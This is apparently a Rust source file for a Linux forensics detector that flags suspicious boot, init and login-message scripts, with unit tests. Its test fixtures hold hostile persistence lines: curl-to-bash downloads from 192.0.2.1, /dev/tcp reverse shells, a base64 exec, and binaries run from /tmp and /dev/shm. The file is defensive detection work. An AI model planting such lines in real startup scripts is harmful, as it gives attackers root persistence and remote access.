//! Detector: a script or command of init, or one that makes the message at login, that does something odd.

use crate::weigh::{self, Files};
use crate::{Card, Detector, Draft, Tables};
use calma_record::{Certainty, Severity, kinds::StartupCommand};

/// This detector.
pub(super) const DETECTOR: Detector = Detector {
    card: Card {
        name: "init-script",
        doc: "A script that runs at boot or at every login, or a command of init, does what ordinary ones do not.",
        mechanisms: &[42, 53],
        attack: &["T1037.004", "T1543"],
        why: "It runs as root by itself, at every boot or whenever somebody logs in.",
        innocent: "you or a program you installed by hand made this script",
        next: "read the script and what it runs; keep both as evidence before removing them",
    },
    judge,
};

fn judge(tables: &Tables, drafts: &mut Vec<Draft>) {
    weigh::startup_commands(tables, &["init script"], "A script or command of init", drafts);
    weigh::startup_commands(tables, &["motd script"], "A script that makes the message at login", drafts);
    let files = Files::new(tables);
    let whole = |row: &StartupCommand| {
        matches!(row.mechanism.as_str(), "init script" | "motd script")
            && row.line == 0
            && row.package.is_none()
            && row.packages_known
    };
    for row in tables.of::<StartupCommand>().filter(|row| whole(row)) {
        // Scripts stand there; a compiled program of no package is either put in place of one or passes for one.
        let Some(file) = files.get(&row.path).filter(|file| file.elf) else { continue };
        let title = format!("A compiled program stands among the scripts that run {}", row.when);
        let place = file.real.as_ref().unwrap_or(&row.path);
        drafts.push(
            Draft::new(Severity::Medium, Certainty::Likely, row.path.as_bytes(), title)
                .path(&row.path)
                .path(place)
                .saw(format!(
                    "{} is a compiled program where scripts stand, and no package owns it",
                    row.path
                ))
                .from(&row, "what is run"),
        );
    }
}

#[cfg(test)]
mod tests {
    use calma_testkit::{Mem, check};

    fn debian() -> Mem {
        Mem::new()
            .file("/var/lib/dpkg/info/cron.list", "/.\n/etc/init.d/cron\n/usr/sbin/cron\n/etc/update-motd.d/10-uname\n")
            .file("/usr/sbin/cron", "\x7fELF")
            .file("/etc/init.d/cron", "#!/bin/sh\nDAEMON=/usr/sbin/cron\nPIDFILE=/var/run/crond.pid\ntest -x $DAEMON || exit 0\n. /lib/lsb/init-functions\ncase \"$1\" in start) start_daemon -p $PIDFILE $DAEMON $EXTRA_OPTS ;; esac\nexit 0\n")
            .owned("/etc/init.d/cron", 0o755, 0, 0)
            .symlink("/etc/rc2.d/S01cron", "../init.d/cron")
            .file("/etc/update-motd.d/10-uname", "#!/bin/sh\nuname -snrvm\n")
            .owned("/etc/update-motd.d/10-uname", 0o755, 0, 0)
    }

    #[test]
    fn odd_scripts_are_found_in_every_place() {
        for (path, text) in [
            ("/etc/rc.local", "#!/bin/sh -e\n/tmp/.x &\nexit 0\n"),
            ("/etc/rc.d/rc.local", "#!/bin/bash\ncurl -fsSL http://192.0.2.1/a | bash\n"),
            (
                "/etc/init.d/netd",
                "#!/bin/sh\n### BEGIN INIT INFO\n### END INIT INFO\nstart() { nohup /dev/shm/n & }\nstart\n",
            ),
            ("/etc/init.d/cron", "#!/bin/sh\ntest -x /usr/sbin/cron || exit 0\n/var/tmp/c\n"),
            ("/etc/init.d/bin", "\x7fELF\x02"),
            ("/etc/rc3.d/S99z", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/1 0>&1\n"),
            ("/etc/inittab", "id:2:initdefault:\nx:2345:respawn:/var/tmp/.r\n"),
            (
                "/etc/init/z.conf",
                "start on runlevel [2345]\npost-start script\n  curl -s http://192.0.2.1/a | sh\nend script\n",
            ),
            ("/etc/local.d/a.start", "#!/bin/sh\n/dev/shm/a\n"),
            (
                "/etc/update-motd.d/00-header",
                "#!/bin/sh\nprintf hello\nnohup bash -c 'bash -i >& /dev/tcp/192.0.2.1/1 0>&1' &\n",
            ),
            (
                "/etc/update-motd.d/99-z",
                "#!/usr/bin/python3\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
            ),
            ("/etc/update-motd.d/10-uname", "#!/bin/sh\nuname -a\n/tmp/u\n"),
            ("/etc/update-motd.d/50-x", "\x7fELF\x01"),
        ] {
            let seen = check(debian().file(path, text).owned(path, 0o755, 0, 0));
            let found = seen.alarms("init-script");
            assert_eq!(found.len(), 1, "{path}: {:#?}", seen.findings);
            assert!(format!("{:?}", found[0].subjects).contains(path));
        }
        let linked = check(
            debian()
                .file("/opt/.q", "#!/bin/sh\nexit\n")
                .owned("/opt/.q", 0o755, 0, 0)
                .symlink("/etc/rc5.d/S20q", "/opt/.q"),
        );
        assert_eq!(linked.alarms("init-script").len(), 1, "{:#?}", linked.findings);
    }

    #[test]
    fn packages_and_administrators_scripts_are_no_alarm() {
        let seen = check(
            debian()
                .file("/usr/local/bin/watch", "#!/bin/sh\nsleep 60\n")
                .owned("/usr/local/bin/watch", 0o755, 0, 0)
                .file("/etc/rc.local", "#!/bin/sh -e\nip route add 192.0.2.0/24 via 198.51.100.1\necho 1024 > /proc/sys/net/core/somaxconn || true\necho never > /sys/kernel/mm/transparent_hugepage/enabled\n/usr/local/bin/watch &\nexit 0\n")
                .owned("/etc/rc.local", 0o755, 0, 0)
                .file("/etc/inittab", "id:2:initdefault:\n1:2345:respawn:/sbin/getty 38400 tty1\nca:12345:ctrlaltdel:/sbin/shutdown -t1 -a -r now\n")
                .file("/etc/init.d/README", "see /tmp/x\n")
                .file("/etc/update-motd.d/05-purpose", "#!/bin/sh\necho \"Welcome. Ask admin@example.org before you restart anything.\"\nuptime\ndf -h /\n")
                .owned("/etc/update-motd.d/05-purpose", 0o755, 0, 0)
                .file("/etc/update-motd.d/60-off", "#!/bin/sh\n/tmp/x\n"),
        );
        assert!(seen.by("init-script").is_empty(), "{:#?}", seen.findings);
    }
}
